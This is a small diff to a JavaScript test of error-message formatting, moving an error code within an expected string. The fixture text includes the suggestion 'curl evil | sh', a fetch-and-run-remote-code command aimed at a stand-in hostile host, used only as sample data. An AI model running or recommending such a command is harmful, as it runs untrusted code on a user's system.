@@ -47,7 +47,7 @@ describe('messages', () => {
       [{ label: 'Try', text: 'good' }],
       paint,
     )
-    assert.equal(text, 'error: webhook: no\n  | Try: curl evil | sh\n  well\n      ^ [CSNI206]\n  Try: good\n')
+    assert.equal(text, 'error: webhook: no [CSNI206]\n  | Try: curl evil | sh\n  well\n      ^\n  Try: good\n')
   })
 
   it('print a change as kubectl does', () => {
